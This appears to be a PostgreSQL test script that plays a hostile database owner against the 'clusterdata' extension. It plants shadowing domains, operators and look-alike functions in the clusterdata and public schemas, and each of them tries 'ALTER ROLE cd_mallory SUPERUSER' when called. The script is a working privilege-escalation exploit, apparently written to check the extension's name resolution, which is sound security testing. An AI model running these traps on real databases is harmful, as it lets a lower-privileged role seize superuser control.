-- Run by the hostile database owner (cd_mallory) once clusterdata is
-- installed: objects that shadow every name the extension's code could
-- resolve, in the schema it owns (clusterdata) and in public (which a
-- database owner owns too).  Each of them, when run, notes who ran it in
-- public.cd_ran and tries to make cd_mallory a superuser.
\set ON_ERROR_STOP 1
SET client_min_messages = warning;

CREATE TABLE public.cd_ran (who name, super boolean, what text, at timestamptz DEFAULT clock_timestamp());
GRANT SELECT, INSERT ON public.cd_ran TO PUBLIC;
CREATE FUNCTION public.cd_note(what text) RETURNS void SET search_path = pg_catalog, pg_temp
LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.cd_ran (who, super, what)
    SELECT current_user, r.rolsuper, what FROM pg_catalog.pg_roles r WHERE r.rolname = current_user;
    BEGIN
        EXECUTE 'ALTER ROLE cd_mallory SUPERUSER';
    EXCEPTION WHEN OTHERS THEN
        NULL;
    END;
END
$$;
GRANT EXECUTE ON FUNCTION public.cd_note(text) TO PUBLIC;
CREATE FUNCTION public.cd_check(what text) RETURNS boolean
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.cd_note(what);
    RETURN true;
END
$$;

-- types named as PostgreSQL's, for a session that puts public first: a
-- record shaped as parse_queue's steps, and text
CREATE TYPE public.cd_rt AS (ids bigint[], at int, parsed int, failed int, retried int);
CREATE DOMAIN public.record AS public.cd_rt CHECK (public.cd_check('domain public.record'));
CREATE DOMAIN public.text AS pg_catalog.text CHECK (public.cd_check('domain public.text'));
CREATE DOMAIN public.int4 AS pg_catalog.int4 CHECK (public.cd_check('domain public.int4'));
CREATE DOMAIN public.int8 AS pg_catalog.int8 CHECK (public.cd_check('domain public.int8'));

-- operators: every name the extension's code uses, on every pair of types it
-- could meet (the extension's own types included)
DO $$
DECLARE
    types text[] := ARRAY['int2', 'int4', 'int8', 'numeric', 'float4', 'float8', 'text', 'varchar',
                          'name', 'bool', 'date', 'timestamptz', 'bytea', 'jsonb', 'oid', '"char"',
                          'clusterdata.province', 'clusterdata.solve_rate', 'int8[]', 'text[]', 'int4[]'];
    ops text[] := ARRAY['=', '<>', '<', '<=', '>', '>=', '+', '-', '*', '/', '||', '?', '->>', '&', '@>', '~~'];
    s text;
    l text;
    r text;
    o text;
    ret text;
    fname text;
    n int := 0;
    k int := 0;
BEGIN
    FOREACH s IN ARRAY ARRAY['clusterdata', 'public'] LOOP
        FOREACH l IN ARRAY types LOOP
            FOREACH r IN ARRAY types LOOP
                k := k + 1;
                FOREACH ret IN ARRAY ARRAY(SELECT DISTINCT x FROM unnest(ARRAY['bool', l, 'text']) x) LOOP
                    fname := format('%I.cd_op_%s_%s', s, k, md5(ret));
                    EXECUTE format('CREATE FUNCTION %s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS %L',
                                   fname, l, r, ret,
                                   format('BEGIN PERFORM public.cd_note(%L); RETURN NULL; END',
                                          format('operator %s.?(%s, %s) returning %s', s, l, r, ret)));
                END LOOP;
                FOREACH o IN ARRAY ops LOOP
                    ret := CASE WHEN o IN ('=', '<>', '<', '<=', '>', '>=', '?', '@>', '~~') THEN 'bool'
                                WHEN o IN ('||', '->>') THEN 'text' ELSE l END;
                    BEGIN
                        EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s)',
                                       s, o, l, r, format('%I.cd_op_%s_%s', s, k, md5(ret)));
                        n := n + 1;
                    EXCEPTION WHEN duplicate_function OR duplicate_object THEN
                        NULL;   -- the extension's own operator
                    END;
                END LOOP;
            END LOOP;
        END LOOP;
    END LOOP;
    RAISE NOTICE 'planted % operators', n;
END
$$;

-- (from here on this script must not meet its own operators)
SET search_path = pg_catalog, pg_temp;

-- functions and procedures with the extension's own names: each argument
-- in turn of a near type, and without the arguments that have defaults
DO $$
DECLARE
    f record;
    s text;
    variant text[];
    alts text[];
    a text;
    outs text;
    kw text;
    body text;
    n int := 0;
BEGIN
    FOR f IN
        SELECT p.oid, p.proname, p.prokind, p.proretset, p.pronargs, p.pronargdefaults,
               ARRAY(SELECT format_type(t, NULL) FROM unnest(p.proargtypes) t) AS ins,
               (SELECT string_agg(format('OUT %I %s', coalesce(p.proargnames[i], 'o' || i),
                                         format_type(p.proallargtypes[i], NULL)), ', ')
                FROM generate_subscripts(p.proallargtypes, 1) i
                WHERE p.proargmodes[i] IN ('o', 'b', 't')) AS out_args,
               format_type(p.prorettype, NULL) AS ret
        FROM pg_proc p
        JOIN pg_depend d ON d.classid = 'pg_proc'::regclass AND d.objid = p.oid AND d.deptype = 'e'
        JOIN pg_extension e ON e.oid = d.refobjid AND e.extname = 'clusterdata'
        WHERE NOT ('internal'::regtype = ANY (p.proargtypes) OR 'cstring'::regtype = ANY (p.proargtypes))
          AND p.prorettype NOT IN ('cstring'::regtype, 'internal'::regtype)
    LOOP
        FOREACH s IN ARRAY ARRAY['clusterdata', 'public'] LOOP
            FOR i IN 0 .. f.pronargs LOOP
                IF i = 0 THEN
                    alts := ARRAY[NULL];
                ELSE
                    alts := CASE f.ins[i]
                        WHEN 'integer' THEN ARRAY['smallint', 'bigint', 'numeric', 'double precision']
                        WHEN 'bigint' THEN ARRAY['integer', 'numeric']
                        WHEN 'text' THEN ARRAY['character varying', 'name', '"char"']
                        WHEN 'double precision' THEN ARRAY['numeric', 'real', 'integer']
                        WHEN 'numeric' THEN ARRAY['double precision', 'integer', 'bigint']
                        WHEN 'jsonb' THEN ARRAY['json', 'text']
                        WHEN 'boolean' THEN ARRAY['integer', 'text']
                        WHEN 'date' THEN ARRAY['timestamp with time zone', 'text']
                        WHEN 'bytea' THEN ARRAY['text']
                        WHEN 'bigint[]' THEN ARRAY['integer[]', 'numeric[]']
                        ELSE ARRAY['text'] END;
                END IF;
                FOREACH a IN ARRAY alts LOOP
                    variant := f.ins;
                    IF i > 0 THEN
                        variant[i] := a;
                    END IF;
                    -- the variant, and the variant without its defaulted arguments
                    FOR cut IN 0 .. f.pronargdefaults LOOP
                        CONTINUE WHEN cut > 0 AND i > f.pronargs - cut;
                        outs := array_to_string(variant[1:f.pronargs - cut], ', ');
                        IF f.out_args IS NOT NULL AND f.prokind <> 'p' THEN
                            outs := concat_ws(', ', nullif(outs, ''), f.out_args);
                        END IF;
                        body := format('BEGIN PERFORM public.cd_note(%L); %s END',
                                       format('%s %s.%s(%s)', CASE f.prokind WHEN 'p' THEN 'procedure' ELSE 'function' END,
                                              s, f.proname, array_to_string(variant[1:f.pronargs - cut], ', ')),
                                       CASE WHEN f.prokind = 'p' THEN ''
                                            WHEN f.proretset OR f.out_args IS NOT NULL OR f.ret = 'void' THEN 'RETURN;'
                                            ELSE 'RETURN NULL;' END);
                        kw := CASE WHEN f.prokind = 'p' THEN 'PROCEDURE' ELSE 'FUNCTION' END;
                        BEGIN
                            EXECUTE format('CREATE %s %I.%I(%s) %s LANGUAGE plpgsql AS %L', kw, s, f.proname, outs,
                                           CASE WHEN f.prokind = 'p' THEN ''
                                                WHEN f.out_args IS NOT NULL AND f.proretset THEN 'RETURNS SETOF record'
                                                WHEN f.out_args IS NOT NULL THEN ''
                                                WHEN f.proretset THEN format('RETURNS SETOF %s', f.ret)
                                                ELSE format('RETURNS %s', f.ret) END,
                                           body);
                            n := n + 1;
                        EXCEPTION WHEN duplicate_function OR invalid_function_definition THEN
                            NULL;   -- the extension's own signature, or one planted already
                        END;
                    END LOOP;
                END LOOP;
            END LOOP;
        END LOOP;
    END LOOP;
    RAISE NOTICE 'planted % functions and procedures with the extension''s names', n;
END
$$;
SELECT count(*) AS planted_operators FROM pg_operator
WHERE oprnamespace IN ('clusterdata'::regnamespace, 'public'::regnamespace) AND oprowner = 'cd_mallory'::regrole;
